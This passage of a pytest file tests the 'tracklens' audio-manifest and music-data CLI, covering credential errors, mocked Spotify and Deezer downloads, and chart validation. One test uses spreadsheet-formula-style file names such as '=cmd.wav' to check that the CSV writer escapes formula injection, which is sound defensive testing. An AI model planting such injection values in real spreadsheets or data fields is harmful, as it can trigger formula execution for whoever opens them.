        sf.write(tmp_path / name, tone, 8000)
    monkeypatch.chdir(tmp_path)  # paths are written as found: "=cmd.wav", not "/tmp/.../=cmd.wav"
    write_manifest(".", tmp_path / "manifest.csv", progress=False)

    raw = read_rows(tmp_path / "manifest.csv")
    assert sorted(r["path"] for r in raw) == ["'+x.wav", "'=cmd.wav", "'=cmd/-2+3.wav", "'@x.wav"]
    assert {r["label"] for r in raw} == {"", "'=cmd"}
    back = fileio.read_csv(tmp_path / "manifest.csv", keep_default_na=False)
    assert sorted(back["path"]) == ["+x.wav", "=cmd.wav", "=cmd/-2+3.wav", "@x.wav"]
    assert set(back["label"]) == {"", "=cmd"} and (back["error"] == "").all()


@pytest.mark.parametrize("make, match", [
    (lambda p: p / "missing", "no such folder"),
    (lambda p: p, "no audio files"),
])
def test_folder_errors(tmp_path, make, match):
    with pytest.raises(TracklensError, match=match):
        folder_manifest(make(tmp_path), progress=False)


# --- CLI --------------------------------------------------------------------------------------


def run_cli(monkeypatch, capsys, *args: str) -> tuple[int, str, str]:
    """Run `tracklens ARGS` in-process through cli.main (so `responses` mocks apply)."""
    from tracklens import cli

    monkeypatch.setattr(sys, "argv", ["tracklens", *args])
    with pytest.raises(SystemExit) as info:
        cli.main()
    out, err = capsys.readouterr()
    return info.value.code or 0, out, err


def test_cli_folder_writes_manifest(monkeypatch, capsys, audio_folder, tmp_path):
    out = tmp_path / "manifest.csv"
    code, stdout, _ = run_cli(monkeypatch, capsys, "acquire", "folder", str(audio_folder), "--out", str(out))
    assert code == 0
    assert "6 files, 3 labels, 3 unreadable" in stdout
    assert len(read_rows(out)) == 6


def test_cli_spotify_without_credentials_is_one_clear_line(monkeypatch, capsys, tmp_path):
    monkeypatch.delenv("SPOTIPY_CLIENT_ID", raising=False)
    monkeypatch.delenv("SPOTIPY_CLIENT_SECRET", raising=False)
    monkeypatch.setattr(config, "load_dotenv_once", lambda: None)
    code, _, err = run_cli(monkeypatch, capsys, "acquire", "spotify", "album", ALBUM, "--out", str(tmp_path / "t.csv"))
    assert code == 2
    assert err.count("\n") == 1 and err.startswith("tracklens: error: Spotify credentials are not set")
    assert "Traceback" not in err and not (tmp_path / "t.csv").exists()


def test_cli_spotify_and_previews_end_to_end(monkeypatch, capsys, tmp_path):
    monkeypatch.setenv("SPOTIPY_CLIENT_ID", "test-client-id")
    monkeypatch.setenv("SPOTIPY_CLIENT_SECRET", SECRET)
    tracks = tmp_path / "tracks.csv"
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        mock.post(TOKEN_URL, json=fixture("spotify_token.json"))
        mock.get(f"{API}/search", json={"tracks": {**fixture("spotify_search_page2.json")["tracks"], "offset": 0}})
        add_enrichment(mock, features_status=403)
        code, stdout, err = run_cli(monkeypatch, capsys, "acquire", "spotify", "search", "svefn", "--out", str(tracks))
        assert code == 0, err
        assert "1 new tracks" in stdout and "audio-features endpoint is closed" in stdout
        assert SECRET not in stdout + err

        add_deezer(mock)
        code, stdout, err = run_cli(monkeypatch, capsys, "acquire", "previews", str(tracks), "--out", str(tmp_path / "p"))
    assert code == 0, err
    assert "1 downloaded, 0 already there, 0 failed" in stdout
    assert (tmp_path / "p" / f"{T3}.mp3").read_bytes() == MP3


def test_cli_charts(monkeypatch, capsys, tmp_path):
    source = write_charts(tmp_path / "hits.csv")
    code, stdout, _ = run_cli(monkeypatch, capsys, "acquire", "charts", str(source), "--out", str(tmp_path / "raw"))
    assert code == 0 and "3 rows, valid; copied to" in stdout

    code, _, err = run_cli(monkeypatch, capsys, "acquire", "charts", str(tmp_path / "nope.csv"))
    assert code == 2 and err.count("\n") == 1 and "nope.csv: no such file" in err

    # the verb validates with the full schema (prepare.load_charts), not only the header
    mistyped = tmp_path / "mistyped.csv"
    mistyped.write_text(source.read_text(encoding="utf-8").replace(",78,", ",seventy-eight,"), encoding="utf-8")
    assert acquire_charts(mistyped, tmp_path / "header-only").rows == 3  # the header check alone passes it
    code, _, err = run_cli(monkeypatch, capsys, "acquire", "charts", str(mistyped), "--out", str(tmp_path / "raw2"))
    assert code == 2 and "popularity" in err and "seventy-eight" in err and not (tmp_path / "raw2").exists()


@pytest.mark.parametrize("verb", ["spotify", "previews", "charts", "folder"])
def test_cli_help_has_examples(monkeypatch, capsys, verb):
    code, stdout, _ = run_cli(monkeypatch, capsys, "acquire", verb, "--help")
    assert code == 0 and "Examples:" in stdout and f"tracklens acquire {verb}" in stdout


def test_cli_error_exit_from_a_real_process(tmp_path):
    tracklens = Path(sys.executable).with_name("tracklens")
    if not tracklens.exists():
        pytest.skip("the tracklens console script is not installed in this environment")
    proc = subprocess.run([str(tracklens), "acquire", "folder", str(tmp_path / "missing"), "--out", str(tmp_path / "m.csv")],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2
    assert proc.stderr.strip().splitlines() == [f"tracklens: error: {tmp_path / 'missing'}: no such folder"]
